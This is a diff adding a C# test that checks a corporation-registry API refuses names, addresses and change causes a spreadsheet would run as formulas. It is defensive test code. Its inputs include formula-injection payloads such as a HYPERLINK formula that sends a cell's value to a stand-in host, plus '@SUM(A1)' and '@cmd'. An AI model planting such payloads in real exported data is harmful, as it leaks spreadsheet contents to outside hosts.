@@ -113,4 +113,45 @@ public sealed class CorporationRefusalTests
         Assert.Equal(HttpStatusCode.NotFound, unknownStatus);
         JapaneseFirst(unknownProblem.GetProperty("detail").GetString());
     }
+
+    [Theory, StorageData]
+    public async Task Published_text_that_a_spreadsheet_would_run_as_a_formula_is_refused(StorageProvider provider)
+    {
+        // Audit Z #7: the NTA-format CSV is opened in spreadsheets, which run a cell that begins =, +, - or @, quoted or not.
+        using var host = RegistryHost.Start(provider);
+        var admin = host.Client("corporations");
+        void Formula((HttpStatusCode Status, string Type, JsonElement Problem) answer, string type, params string[] fields)
+        {
+            Assert.Equal((HttpStatusCode.BadRequest, "urn:renkei:problem:" + type), (answer.Status, answer.Type));
+            var errors = answer.Problem.GetProperty("errors");
+            Assert.Equal(fields.Order(), errors.EnumerateObject().Select(p => p.Name).Order());
+            foreach (var field in fields)
+            {
+                var message = errors.GetProperty(field)[0].GetString();
+                JapaneseFirst(message);
+                Assert.Contains("=", message);
+            }
+        }
+
+        // Full-width ＝ and ＋ fold to = and + (NFKC), as a clerk's input method types them.
+        Formula(await PostAsync(admin, "/api/corporations", new
+        {
+            name = "＝HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", furigana = "シケン", kind = "301", enName = "-2+3",
+            address = new { localGovernmentCode = "131059", streetNumber = "＋1-1", enCityName = "@SUM(A1)" },
+        }), "invalid-corporation", "name", "enName", "address.streetNumber", "address.enCityName");
+        Formula(await PostAsync(admin, "/api/corporations/batch", new { corporations = new[] { Company("=1+1", "シケン") } }),
+            "invalid-corporation", "corporations[0].name");
+        Assert.Equal(0, (await Publication.GetAsync(host.Client(), $"/4/diff?id=sandbox&type=22&{AroundToday()}")).Count);
+
+        var number = await RegisterAsync(admin, Company("数式試験株式会社", "スウシキシケン"));
+        Formula(await PostAsync(admin, $"/api/corporations/{number}/changes", new { process = "11", name = "新数式試験株式会社", furigana = "シン", changeCause = "=1+1" }),
+            "invalid-change", "changeCause");
+        Formula(await PostAsync(admin, $"/api/corporations/{number}/changes", new { process = "13", address = new { addressOutside = "　@cmd" } }),
+            "invalid-change", "address.addressOutside");
+
+        // Only the first character counts: a name or cause holding -, = or + further in is published as before.
+        await ChangeAsync(admin, number, new { process = "11", name = "A-Z=株式会社", furigana = "エーゼット", changeCause = "商号変更（2025-04-01 株主総会）" });
+        var history = await Publication.GetAsync(host.Client(), $"/4/num?id=sandbox&type=22&number={number}&history=1");
+        Assert.Equal("A-Z=株式会社", history.Records[^1]["name"]);
+    }
 }
